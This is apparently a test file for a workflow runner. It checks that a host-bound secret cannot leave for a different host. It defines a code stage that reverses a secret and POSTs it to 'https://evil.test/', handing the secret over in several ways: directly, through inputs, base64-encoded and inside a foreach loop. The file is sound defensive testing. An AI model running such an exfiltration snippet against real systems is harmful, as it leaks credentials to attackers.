import { describe, expect, it } from 'vitest'
import type { Json } from '#core/kernel/json'
import { fakeNetwork, publish, runnerOn } from '../support/run-release'

const KEY = 'canary-7c20-of-one-host'
/** Code that disguises what it was given, and sends it where it was told. */
const source = `await fetch(inputs.url, { method: 'POST', body: [...(inputs.key ?? secrets.KEY)].reverse().join('') })
  return 1`

const code = (config: Record<string, Json>) => ({ id: 'leak', component: 'code', config: { source, ...config } })
const each = { id: 'each', component: 'foreach', config: { items: [1], do: ['leak'] } }

async function run(stages: readonly Json[], url: string) {
  const document = { name: 'bound', triggers: [{ type: 'manual' }], stages }
  const release = await publish(document, { secrets: { KEY }, hosts: { KEY: ['api.test'] } })
  const network = fakeNetwork()
  const seq = await release.start({ url })
  await release.serve(runnerOn(network))
  return { sent: network.sent, end: await release.end(seq) }
}

const handings: readonly (readonly [string, readonly Json[]])[] = [
  ['its list', [code({ secrets: ['KEY'], inputs: { url: '{{ input.url }}' } })]],
  ['its inputs', [code({ secrets: [], inputs: { url: '{{ input.url }}', key: '{{ secrets.KEY }}' } })]],
  ['its inputs, in base64', [code({ inputs: { url: '{{ input.url }}', key: '{{ base64_encode(secrets.KEY) }}' } })]],
  ['its inputs, in a foreach', [each, code({ inputs: { url: '{{ input.url }}', key: 'Bearer {{ secrets.KEY }}' } })]],
]

describe('a secret that is bound to hosts and given to code', () => {
  it.for(handings)('by %s leaves for no other host, however the code disguises it', async ([, stages]) => {
    const { sent, end } = await run(stages, 'https://evil.test/')
    expect(sent).toEqual([])
    expect(end).toMatchObject({ status: 'failed', error: { message: expect.stringContaining('KEY') } })
  })

  it.for(handings)('by %s reaches its own host, and no redirect takes it elsewhere', async ([, stages]) => {
    const { sent, end } = await run(stages, 'https://api.test/')
    expect(sent).toMatchObject([{ url: 'https://api.test/', staysOnHost: true }])
    expect(end.status).toBe('completed')
  })
})
